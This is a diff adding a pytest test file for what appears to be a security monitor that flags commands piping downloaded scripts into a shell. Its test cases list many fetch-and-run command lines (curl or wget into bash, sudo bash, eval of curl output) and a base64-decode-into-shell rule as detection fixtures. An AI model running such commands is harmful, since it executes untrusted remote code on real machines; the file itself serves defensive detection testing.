@@ -0,0 +1,54 @@
+import pytest
+
+import paginated_osquery_client_env as client
+
+
+@pytest.mark.parametrize("cmdline", [
+    "curl https://x.sh | bash",
+    "curl https://x.sh|bash",
+    "curl https://x.sh |  bash",
+    "curl https://x.sh |\tbash",
+    "curl https://x.sh | BASH -s -- --yes",
+    "Curl https://x.sh | Bash",
+    "wget -qO- https://x.sh | sh",
+    "curl https://x.sh | sudo bash",
+    "curl https://x.sh | sudo -E bash",
+    "curl https://x.sh |sudo  -E -H sh",
+    "curl https://x.sh | dash",
+    "bash -c 'curl https://malicious.sh | bash'",
+    "bash <(curl -s https://x.sh)",
+    "zsh <(wget -qO- https://x.sh)",
+    'sh -c "$(curl -fsSL https://x.sh)"',
+    "BASH -C '$(WGET -qO- https://x.sh)'",
+    'eval "$(curl -s https://x.sh)"',
+    "source <(curl -s https://x.sh)",
+])
+def test_pipe_to_shell_is_detected(cmdline):
+    assert client.is_curl_pipe_bash(client.Event(pid=1, cmdline=cmdline))
+
+
+@pytest.mark.parametrize("cmdline", [
+    "",
+    "bash /tmp/x",
+    "curl https://legit.sh -o /tmp/x && bash /tmp/x",
+    "cat secrets | shred -u",
+    "ps aux | grep bash",
+    "echo sh | tee out",
+    "curl https://x.sh | shellcheck -",
+    'token="$(curl -s https://api/token)"',
+    "diff <(curl -s https://a) <(curl -s https://b)",
+])
+def test_other_commands_are_not_detected(cmdline):
+    assert not client.is_curl_pipe_bash(client.Event(pid=1, cmdline=cmdline))
+
+
+def test_detect_curl_pipe_bash_filters_events():
+    events = [client.Event(pid=1, cmdline="curl x | sh"), client.Event(pid=2, cmdline="bash /tmp/x")]
+    assert [e.pid for e in client.detect_curl_pipe_bash(events)] == [1]
+
+
+def test_literal_rules_match_case_insensitively():
+    matches = client._compile_patterns(("base64 -d |",))
+    assert matches("echo aGk= | BASE64 -D | sh")
+    assert not matches("base64 file")
+    assert not client._compile_patterns(())("anything")